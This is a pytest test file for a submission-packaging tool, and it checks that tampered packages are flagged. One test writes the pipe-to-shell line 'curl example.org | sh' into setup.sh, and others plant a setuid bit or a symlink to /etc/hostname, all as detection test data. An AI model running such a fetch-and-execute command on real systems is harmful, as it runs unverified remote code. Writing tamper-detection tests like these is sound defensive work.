from __future__ import annotations

import importlib.util
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from submission.bundle.checks import findings_json, verify
from submission.errors import UserError
from submission.package.contents import ENTRY, ROOT, needed_modules, package_files
from submission.package.package import package
from submission.package.package_checks import is_package, package_findings
from submission.store.digests import files_below
from tests.submission.bundle.checks.breaking import nest_folders


def contents(folder: Path) -> dict[str, tuple[int, bytes]]:
    """Return mode and bytes of every file."""
    return {
        path.relative_to(folder).as_posix(): (stat.S_IMODE(path.stat().st_mode), path.read_bytes())
        for path in files_below(folder)
    }


@pytest.fixture(scope="module")
def made(pristine, tmp_path_factory) -> Path:
    """A good package, to be read only."""
    out = tmp_path_factory.mktemp("packages") / "miniature-primary-package"
    package(pristine, out)
    return out


@pytest.fixture
def received(made, tmp_path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "received"))


def test_a_package_is_the_bundle_unchanged_with_the_same_bytes_and_modes_each_time(made, pristine, tmp_path):
    bundled = {name: content for name, (_, content) in contents(pristine).items()}
    assert {name: content for name, (_, content) in contents(made / "bundle").items()} == bundled
    package(pristine, tmp_path / "again")
    assert contents(made) == contents(tmp_path / "again")
    assert {name for name, (mode, _) in contents(made).items() if mode == 0o755} == {"setup.sh", "run.sh"}
    assert not list(made.parent.glob(".*"))


def test_the_runtime_holds_every_module_that_can_be_imported_and_no_training(made):
    modules = needed_modules(ENTRY)
    assert {"evaluate.decoding.fallbacks", "segment.methods.pdac", "submission.runtime.families.qwen2_audio"} <= modules
    assert not {name for name in modules if name.startswith(("submission.miniature", "submission.package"))}
    assert not any((made / "runtime" / name).exists() for name in ("train", "quantize", "tests"))
    # Every module imports with nothing but the package on the path.
    program = "import importlib, sys\nfor name in sys.argv[1:]: importlib.import_module(name)"
    done = subprocess.run(
        [sys.executable, "-P", "-c", program, *sorted(modules)],
        env={"PYTHONPATH": str(made / "runtime"), "PYTHONDONTWRITEBYTECODE": "1"},
        cwd="/",
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr


def test_the_runtime_verifies_its_bundle_as_this_program_does(made):
    program = (
        "import sys; from pathlib import Path; from submission.bundle.checks import findings_json, verify\n"
        "print(findings_json(verify(Path(sys.argv[1]))), end='')"
    )
    done = subprocess.run(
        [sys.executable, "-P", "-c", program, str(made / "bundle")],
        env={"PYTHONPATH": str(made / "runtime"), "PYTHONDONTWRITEBYTECODE": "1"},
        cwd="/",
        capture_output=True,
        text=True,
    )
    assert done.stdout == findings_json(verify(made / "bundle")), done.stderr


def test_requirements_hold_every_library_that_the_runtime_imports(made):
    locked = (made / "requirements.txt").read_text(encoding="utf-8") + (made / "requirements-torch.txt").read_text()
    for module in ("torch", "transformers", "safetensors", "numpy", "numba", "soundfile", "av", "soxr", "sacrebleu"):
        assert importlib.util.find_spec(module) and f"\n{module}==" in f"\n{locked}"


def test_a_good_package_has_no_findings(made):
    assert is_package(made) and not is_package(made / "bundle")
    assert package_findings(made) == []


@pytest.mark.parametrize(
    ("spoil", "path", "what"),
    [
        (lambda p: (p / "run.sh").write_text("#!/bin/sh\n"), "../run.sh", "is not the file"),
        (lambda p: (p / "runtime/evaluate/__init__.py").unlink(), "../runtime/evaluate/__init__.py", "is missing"),
        (lambda p: (p / "runtime/sitecustomize.py").write_text(""), "../runtime/sitecustomize.py", "does not belong"),
        (lambda p: (p / ".venv").symlink_to("/tmp"), "../.venv", "does not belong"),
        (lambda p: (p / "README.md").write_text("# other\n"), "../README.md", "is not the file"),
        (lambda p: (p / "README.md").unlink() or os.mkfifo(p / "README.md"), "../README.md", "no regular file"),
        (lambda p: (p / "extra\x1b").write_text(""), "../extra\\x1b", "does not belong"),
        (lambda p: os.chmod(p / "run.sh", 0o4755), "../run.sh", "runs as another user"),
        (lambda p: os.link(p / "run.sh", p.parent / "other"), "../run.sh", "has 2 names"),
        (lambda p: (p / "runtime/torch").mkdir(), "../runtime/torch", "does not belong"),
        (lambda p: [(p / f"d{n}").mkdir() for n in range(2_000)], "..", "far more files"),
        (lambda p: (p / "LICENSE").unlink() or (p / "LICENSE").symlink_to("/etc/hostname"), "../LICENSE", "link"),
    ],
)
def test_what_this_version_does_not_write_is_a_finding(received, spoil, path, what):
    spoil(received)
    (finding,) = package_findings(received)
    assert (finding.code, finding.path) == ("PKG01", path) and what in finding.what


def test_a_folder_of_a_package_that_cannot_be_opened_is_a_finding(received):
    nest_folders(received / "runtime")
    said = [finding.what for finding in package_findings(received)]
    assert "cannot be listed (File name too long)" in said and "does not belong in a package" in said


def test_verify_checks_package_and_bundle(received):
    def checked() -> subprocess.CompletedProcess[str]:
        words = [sys.executable, "-m", "submission", "verify", str(received)]
        return subprocess.run(words, cwd=ROOT, capture_output=True, text=True, check=False)

    good = checked()
    assert good.returncode == 0 and "PKG01" not in good.stdout, good.stdout + good.stderr
    (received / "setup.sh").write_text("curl example.org | sh\n", encoding="utf-8")
    (received / "bundle/en-de/ACL.txt").unlink()
    bad = checked()
    assert bad.returncode == 1 and "PKG01" in bad.stdout and "MAN02" in bad.stdout


def test_a_bundle_with_errors_and_a_folder_that_is_there_are_refused(good, made):
    with pytest.raises(UserError, match="is there already"):
        package(good, made)
    (good / "scores.json").unlink()
    with pytest.raises(UserError, match="has errors"):
        package(good, good.parent / "out")
    assert not (good.parent / "out").exists() and not list(good.parent.glob(".out*"))


@pytest.mark.parametrize("script", ["setup.sh", "run.sh"])
def test_scripts_fail_with_one_line_that_says_how_to_go_on(made, script, tmp_path):
    def called(*words: str, **variables: str) -> subprocess.CompletedProcess[str]:
        environment = {"PATH": "/usr/bin:/bin", "PACKAGE_VENV": str(tmp_path / "none" / "venv"), **variables}
        return subprocess.run([made / script, *words], env=environment, cwd="/", capture_output=True, text=True)

    failed = [called("--wheels", "/none"), called("--nonsense"), called(PYTHON="none")] if script == "setup.sh" else []
    for done in [called(), *failed]:
        assert done.returncode == 2 and done.stdout == ""
        assert done.stderr.startswith(f"{script}: ") and done.stderr.count("\n") == 1, done.stderr


@pytest.mark.parametrize("name", ["notes.txt", ".notes", "-notes"])
def test_a_folder_that_is_no_environment_is_not_emptied_for_one(made, name, tmp_path):
    (tmp_path / "place").mkdir()
    note = tmp_path / "place" / name
    note.write_text("the only copy", encoding="utf-8")
    environment = {"PATH": "/usr/bin:/bin", "PYTHON": sys.executable}
    for place in (tmp_path / "place", note):
        variables = environment | {"PACKAGE_VENV": str(place)}
        done = subprocess.run([made / "setup.sh"], env=variables, cwd="/", capture_output=True, text=True)
        assert done.returncode == 2 and "is there and no environment" in done.stderr, done.stderr
    assert note.read_text(encoding="utf-8") == "the only copy"


def test_scripts_are_valid_for_a_plain_shell():
    for name in ("setup.sh", "run.sh"):
        script = package_files("x")[name]
        assert subprocess.run(["sh", "-n"], input=script).returncode == 0
